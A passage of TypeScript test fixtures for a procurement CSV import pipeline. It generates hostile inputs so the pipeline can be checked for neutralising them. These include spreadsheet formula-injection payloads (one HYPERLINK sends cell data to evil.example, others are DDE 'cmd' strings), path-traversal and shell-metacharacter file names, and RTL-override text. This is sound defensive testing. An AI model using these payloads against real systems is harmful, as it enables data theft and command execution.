    write: (d) => put(d, 'api-dump.csv', JSON.stringify({ rfqs: [{ a: 1 }, { b: 2 }] })),
  });
  add({
    id: 'bad-numbers',
    fileName: 'bad-numbers.csv',
    what: 'qty 1e309, -1, NaN, 1.5 and a price of Infinity: rows rejected, nothing crashes',
    expect: either,
    write: (d) =>
      put(
        d,
        'bad-numbers.csv',
        csvOf(t, [
          { pr: 'BADNUM1', item: '10', product: 'a', qty: '1e309' },
          { pr: 'BADNUM2', item: '10', product: 'b', qty: '-1' },
          { pr: 'BADNUM3', item: '10', product: 'c', qty: 'NaN' },
          { pr: 'BADNUM4', item: '10', product: 'd', qty: '1.5' },
          { pr: 'BADNUM5', item: '10', product: 'e', qty: '1', price: 'Infinity' },
        ]),
      ),
  });
  add({
    id: 'dup-header',
    fileName: 'dup-header.csv',
    what: 'the header names every template column twice',
    expect: either,
    write: (d) => {
      const lines = linesOf('DUPH', 1);
      return put(
        d,
        'dup-header.csv',
        [[...t.header, ...t.header].join(','), ...lines.map((l) => [...t.cells(l), ...t.cells(l)].join(','))].join(
          CRLF,
        ) + CRLF,
      );
    },
  });

  // ---- hostile text that must be read and neutralised in every output
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '\t=1+1',
    '=1+1\r',
    '\r=2+2',
  ];
  add({
    id: 'formula-products',
    fileName: 'formula-products.csv',
    what: 'product names and specifications that look like formulas',
    expect: archive(1, formulas.length),
    write: (d) =>
      put(
        d,
        'formula-products.csv',
        csvOf(
          t,
          formulas.map((f, i) => ({ pr: 'FORMULA1000', item: String((i + 1) * 10), product: f, spec: f, qty: '1' })),
        ),
      ),
  });
  add({
    id: 'formula-requisition-key',
    fileName: 'formula-key.csv',
    what: 'a requisition key that looks like a formula (=1+1) and one holding a colon (BullMQ job id trap)',
    expect: archive(2, 2),
    write: (d) =>
      put(
        d,
        'formula-key.csv',
        csvOf(t, [
          { pr: '=1+1', item: '10', product: 'formula key', qty: '1' },
          { pr: 'PR:2026:77', item: '10', product: 'colon key', qty: '1' },
        ]),
      ),
  });
  add({
    id: 'digits-key',
    fileName: '12345.csv',
    what: 'all-digit requisition keys and file name (BullMQ rejects all-digit job ids)',
    expect: archive(1, 2),
    write: (d) =>
      put(
        d,
        '12345.csv',
        csvOf(t, [
          { pr: '987654', item: '10', product: 'x', qty: '1' },
          { pr: '987654', item: '20', product: 'y', qty: '2' },
        ]),
      ),
  });
  add({
    id: 'unicode-text',
    fileName: 'unicode-text.csv',
    what: 'RTL override, zero-width joiners, emoji, CJK and combining marks in product names',
    expect: archive(1, 3),
    write: (d) =>
      put(
        d,
        'unicode-text.csv',
        csvOf(t, [
          { pr: 'UNI1000', item: '10', product: 'Schraube \u202Egnp.exe\u202C', qty: '1' },
          { pr: 'UNI1000', item: '20', product: '螺丝 M8 \u{1F529} e\u0301', qty: '1' },
          { pr: 'UNI1000', item: '30', product: 'z\u200Bero\u200Dwidth', qty: '1' },
        ]),
      ),
  });

  // ---- hostile file names (valid content)
  const named = (id: string, fileName: string, what: string, prefix: string) =>
    add({ id, fileName, what, expect: archive(1, 2), write: (d) => put(d, fileName, good(prefix)) });
  named('name-dotdot', 'evil..csv', 'file name ending in .. before the extension', 'NDOT');
  named('name-dotdot-mid', 'a..b..c.csv', 'file name with .. inside', 'NDOTMID');
  named(
    'name-backslash-traversal',
    'x\\..\\..\\..\\windows-traversal.csv',
    'file name holding a Windows path traversal (backslashes are plain characters on Linux)',
    'NBACK',
  );
  named(
    'name-encoded-traversal',
    '%2e%2e%2F%2e%2e%2Fetc%2Fpasswd.csv',
    'file name holding an URL-encoded traversal',
    'NENC',
  );
  add({
    id: 'name-dotfile-traversal',
    fileName: '..%2F..%2Fescape.csv',
    what: 'a dotfile name holding a traversal: the inbox ignores dotfiles, nothing may be created',
    expect: { ...archive(1, 2), ignoredByInbox: true },
    write: (d) => put(d, '..%2F..%2Fescape.csv', good('NDOTFILE')),
  });
  named('name-quotes', `o'brien "urgent".csv`, 'file name with single and double quotes', 'NQUOTE');
  named('name-newline', 'line\nbreak\r.csv', 'file name with a newline and a carriage return', 'NNEWL');
  named(
    'name-non-latin',
    'заявка-采购-طلب-Ünïcödé.csv',
    'file name in Cyrillic, Chinese, Arabic and accented Latin',
    'NUNI',
  );
  named('name-shell', '$(touch pwned);`id`|x&.csv', 'file name with shell metacharacters', 'NSHELL');
  named('name-windows-reserved', 'CON.csv', 'a Windows device name', 'NCON');
  named(
    'name-colon',
    'PR:2026:01.csv',
    'file name with colons (invalid on Windows shares, BullMQ job id trap)',
    'NCOLON',
  );
  named('name-long', `${'long-'.repeat(48)}.csv`, 'a 244-character file name', 'NLONG');
  named('name-formula', '=cmd|calc!A0.csv', 'a file name that looks like a formula', 'NFORM');

  // ---- dropped in awkward ways (the pipeline test honours `drop`)
  const growing = good('GROW', 6).split(CRLF);
  const growParts = [
    growing.slice(0, 4).join(CRLF) + CRLF,
    ...growing
      .slice(4)
      .filter(Boolean)
      .map((l) => l + CRLF),
  ];
  add({
    id: 'growing',
    fileName: 'still-copying.csv',
    what: 'a file that keeps growing for a while after it appears (slow copy)',
    drop: 'growing',
    expect: archive(6, 12),
    parts: growParts,
    write: (d) => put(d, 'still-copying.csv', growParts.join('')),
  });
  add({
    id: 'deleted-while-queued',
    fileName: 'vanishing.csv',
    what: 'a file deleted right after it is dropped',
    drop: 'deleted',
    expect: either,
    write: (d) => put(d, 'vanishing.csv', good('VANISH')),
  });
  add({
    id: 'twin',
    fileName: 'twin-a.csv',
    what: 'the same bytes dropped under two names (one set of RFQs, the second a duplicate)',
    drop: 'twin',
    expect: archive(2, 4),
    write: (d) => put(d, 'twin-a.csv', good('TWIN', 2)),
  });
  // ---- the formats read besides CSV and xlsx (.xls, XML 2003, HTML, .ods, SAP lists)
  addFormatCases(add, t, linesOf, failed, archive);
  return cases;
}

/** Write every case into `dir` (the big ones included): for a look by hand. Returns path by case id. */
export async function writeHostileFiles(dir: string, cases = hostileCases()): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const c of cases) out.set(c.id, await c.write(dir));
  return out;
}
